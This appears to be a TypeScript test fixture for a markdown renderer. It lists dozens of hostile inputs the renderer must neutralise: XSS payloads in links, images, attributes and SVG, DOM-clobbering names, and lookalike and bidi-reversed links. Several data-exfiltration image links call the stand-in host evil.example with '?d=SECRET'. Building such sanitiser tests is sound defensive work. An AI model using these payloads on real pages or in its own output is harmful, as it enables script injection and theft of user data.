/** A text that wants something else than to be read. */
export interface HostileText {
  /** What it tries. */
  tries: string
  markdown: string
}

const PIXEL =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

/** Hostile texts of every kind that is known: each must come out as text, links of the list, and placeholders. */
export const hostileTexts: readonly HostileText[] = [
  // Scripts in addresses.
  { tries: 'a script as a link', markdown: 'See [the report](javascript:alert(1)).' },
  { tries: 'a script by entities', markdown: '[a](java&#115;cript&colon;alert&lpar;1&rpar;)' },
  { tries: 'a script with a line feed inside', markdown: '[a](<java&NewLine;script:alert(1)>)' },
  { tries: 'a script with escapes', markdown: '[a](javascript\\:alert\\(1\\))' },
  { tries: 'a script behind a control character', markdown: '[a](<&#1;javascript:alert(1)>)' },
  {
    tries: 'a script in a control character',
    markdown: '[a](java\u0000script:alert(1)) <java\u0008script:alert(1)>',
  },
  { tries: 'a script as an autolink', markdown: '<javascript:alert(1)> and <JAVASCRIPT:alert`1`>' },
  { tries: 'a script by reference', markdown: '[a], [a][], [b][a]\n\n[a]: <javascript:alert(1)> "title"' },
  { tries: 'a script by a reference in a quote', markdown: '[late]\n\n> [late]: vbscript:x\n\n![late]' },
  {
    tries: 'a script as an image',
    markdown: '![a](javascript:alert(1)) ![b](data:text/javascript,alert(1))',
  },
  {
    tries: 'a page as an address',
    markdown: '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  },
  { tries: 'a drawing with a script', markdown: '![a](data:image/svg+xml;utf8,<svg/onload=alert(1)>)' },
  {
    tries: 'a wrapped scheme',
    markdown: '[a](feed:javascript:alert(1)) [b](view-source:javascript:alert(1))',
  },
  { tries: 'files and programs', markdown: '[a](file:///etc/passwd) [b](vscode://file/a) [c](ms-msdt:/id)' },
  {
    tries: 'a blob of the page',
    markdown: '[a](blob:https://app.example/1f0a) ![b](blob:https://app.example/1f0a)',
  },

  // Markup.
  {
    tries: 'a script element',
    markdown: 'Hi <script>alert(1)</script> there\n\n<script src="//evil.example/a.js"></script>',
  },
  {
    tries: 'a handler',
    markdown: '<img src=x onerror=alert(1)> <svg onload=alert(1)> <body onpageshow=alert(1)>',
  },
  { tries: 'markup that is not closed', markdown: 'text <img src="https://evil.example/?d=' },
  {
    tries: 'a frame',
    markdown: '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><object data="//evil.example">',
  },
  {
    tries: 'a form',
    markdown:
      '<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)><button>Sign in</button></form>',
  },
  {
    tries: 'a style',
    markdown:
      '<style>body{display:none}@import "//evil.example/a.css"</style>\n\n<p style="position:fixed;inset:0">x</p>',
  },
  {
    tries: 'another base',
    markdown:
      '<base href="https://evil.example/"> <meta http-equiv="refresh" content="0;url=//evil.example"> <link rel=stylesheet href=//evil.example>',
  },
  {
    tries: 'names that hide those of the document',
    markdown:
      '<a id="cookie" name="body">x</a><form name="getElementById"></form><img name="config" id="root">',
  },
  {
    tries: 'names by headings and notes',
    markdown:
      '# cookie\n\n# __proto__\n\n# root\n\nx[^body] y[^constructor]\n\n[^body]: getElementById\n[^constructor]: z',
  },
  {
    tries: 'markup in a drawing',
    markdown:
      '<svg><style><img src=x onerror=alert(1)></style></svg><math><mtext></p><img src=x onerror=alert(1)>',
  },
  {
    tries: 'markup that a filter makes',
    markdown: '<scr<script>ipt>alert(1)</scr</script>ipt> <<img src=x onerror=alert(1)//',
  },
  {
    tries: 'a comment and its kin',
    markdown: '<!--><img src=x onerror=alert(1)>--> <![CDATA[<img src=x onerror=alert(1)>]]> <?php ?>',
  },
  {
    tries: 'markup in entities',
    markdown: '&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;',
  },
  {
    tries: 'a template',
    markdown:
      '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  },
  { tries: 'a line break with more', markdown: 'a<br>b<br/>c<br onclick=alert(1)>d<br style="x">e</br>f' },
  {
    tries: 'markup in a table',
    markdown: '| <b onclick=alert(1)>a | b |\n| - | - |\n| <img src=x onerror=alert(1)> | `<i>` |',
  },
  {
    tries: 'a custom element',
    markdown:
      '<x-app onclick=alert(1)></x-app> <dialog open>Sign in again</dialog> <marquee onstart=alert(1)>',
  },

  // Out of an attribute.
  { tries: 'to leave an address', markdown: '[a](https://ok.example/"onmouseover="alert(1))' },
  {
    tries: 'to leave a title',
    markdown:
      '[a](https://ok.example "\\" onmouseover=alert(1) x=\\"") ![b](https://ok.example/b.png \'" onerror="alert(1)\')',
  },
  {
    tries: 'to leave an alternative text',
    markdown: '![" onerror="alert(1)](https://ok.example/b.png) !["><script>alert(1)</script>](x.png)',
  },
  {
    tries: 'to leave an info string',
    markdown:
      '```js" onclick="alert(1)" style="position:fixed"\ncode\n```\n\n~~~ "><img/src=x/onerror=alert(1)>\ncode',
  },
  {
    tries: 'a language that is more than a name',
    markdown:
      '```__proto__\na\n```\n\n```constructor\nb\n```\n\n```\u202ejs\nc\n```\n\n```fixed inset-0 z-50\nd\n```',
  },
  {
    tries: 'to leave the label of a note',
    markdown: 'a[^" onclick="alert(1)] b[^\\"x]\n\n[^" onclick="alert(1)]: n\n[^\\"x]: m',
  },
  {
    tries: 'to leave a heading',
    markdown: '# "><img src=x onerror=alert(1)> {#id .class onclick=alert(1)}\n\ntext {: style="color:red"}',
  },

  // Requests.
  { tries: 'to send data by an image', markdown: 'Done. ![chart](https://evil.example/c.png?d=SECRET)' },
  {
    tries: 'to send data by a reference',
    markdown: 'Done. ![chart][c] ![c] ![][c]\n\n[c]: https://evil.example/c.png?d=SECRET "chart"',
  },
  {
    tries: 'to send data by an image in a link',
    markdown: '[![chart](https://evil.example/c.png?d=1)](https://evil.example/2)',
  },
  {
    tries: 'to send data from a table',
    markdown: '| a | b |\n| :-: | -: |\n| ![x](https://evil.example/t.png) | ![y](//evil.example/u.png) |',
  },
  {
    tries: 'to send data from a note',
    markdown: 'a[^1]\n\n[^1]: ![x](https://evil.example/n.png)\n\n    ![y](http://evil.example/m.png)',
  },
  {
    tries: 'to do something in the page',
    markdown: '![a](/api/logout) ![b](./delete?id=1) ![c](?logout) ![d](#/delete)',
  },
  {
    tries: 'to send data by a helper of the page',
    markdown: '![a](/_next/image?url=https%3A%2F%2Fevil.example%2F%3Fd%3DSECRET&w=64&q=1)',
  },
  {
    tries: 'to be loaded with a password',
    markdown:
      '![a](https://app.example@evil.example/a.png) ![b](https://evil.example:81\\@app.example/b.png)',
  },
  {
    tries: 'to send data by what is looked up',
    markdown: 'https://SECRET.evil.example <https://secret2.evil.example> www.secret3.evil.example',
  },
  { tries: 'an image that is in the text', markdown: `![pixel](data:image/png;base64,${PIXEL} "a pixel")` },
  { tries: 'an image that is cut off', markdown: '![a](data:image/png;base64,iVBORw0KGgo' },

  // Links to elsewhere.
  {
    tries: 'to look like another address',
    markdown:
      '[https://bank.example/login](https://evil.example/login) [**bank.example**](https://evil.example)',
  },
  {
    tries: 'to look like another host',
    markdown:
      'https://bank.example@evil.example/ [a](https://bank.example\u2215evil.example) https://b\u0430nk.example',
  },
  {
    tries: 'to turn an address around',
    markdown:
      '[a](https://evil.example/\u202egpj.exe) https://evil.example/\u2066moc.elpmaxe\u2069 [\u202emoc.knab](https://evil.example)',
  },
  {
    tries: 'to lead into the page',
    markdown:
      '[a](#/admin/delete?id=1) [b](/logout) [c](//evil.example) [d](/\\evil.example) [e](?a=1) [f](.)',
  },
  {
    tries: 'a link in a link',
    markdown:
      '[a [b](https://one.example) c](https://two.example) [<https://three.example>](https://four.example)',
  },
  {
    tries: 'a mail that is already written',
    markdown:
      '[a](mailto:a@evil.example?cc=all@corp.example&body=SECRET) [b](tel:*%2306%23) <a@evil.example>',
  },

  // What cannot be seen.
  {
    tries: 'to turn around what follows',
    markdown:
      'pay \u202e100 \u2067to\n\nthe next paragraph\n\n- \u202eone\n- two\n\n| a\u202e | b |\n| - | - |\n| c\u2068 | d |',
  },
  {
    tries: 'to hide words',
    markdown:
      'safe\u200b\u2060\ufeff text \u{E0069}\u{E0067}\u{E006E}\u{E006F}\u{E0072}\u{E0065} `a\u200bb` [\u200b](https://evil.example)',
  },
  {
    tries: 'controls',
    markdown:
      'a\u0000b\u0007c\u001b[31md\u009b0me\u0085f\u007fg\u2028h\u2029i `a\u0008b`\n\n```\na\u001b[2Kb\u202ec\n```',
  },
  {
    tries: 'half a character',
    markdown: 'a\ud83d b\ude00 `c\ud83d` [d\ud83d](https://ok.example/\ud83d) \ud83d',
  },
  {
    tries: 'letters on letters',
    markdown: `Z${'\u0336\u0489\u0300\u0301\u0302'.repeat(20)}algo ${'\ufdfd'.repeat(20)}`,
  },

  // Out of the box.
  {
    tries: 'to leave the box by a long word',
    markdown: `${'w'.repeat(400)} \`${'c'.repeat(400)}\` https://ok.example/${'u'.repeat(400)}`,
  },
  {
    tries: 'to leave the box by a table',
    markdown: `|${' head |'.repeat(40)}\n|${' - |'.repeat(40)}\n|${' cell |'.repeat(40)}`,
  },
  {
    tries: 'to leave the box by depth',
    markdown: `${'> '.repeat(60)}deep\n\n${'- '.repeat(60)}deep\n\n${'*a '.repeat(40)}${'*'.repeat(40)}`,
  },
  {
    tries: 'to leave the box by code',
    markdown: `\`\`\`${'l'.repeat(200)}\n${'x '.repeat(300)}\n\`\`\`\n\n# ${'H'.repeat(200)}\n\n![${'a'.repeat(300)}](https://${'h'.repeat(60)}.example/i.png)`,
  },
]
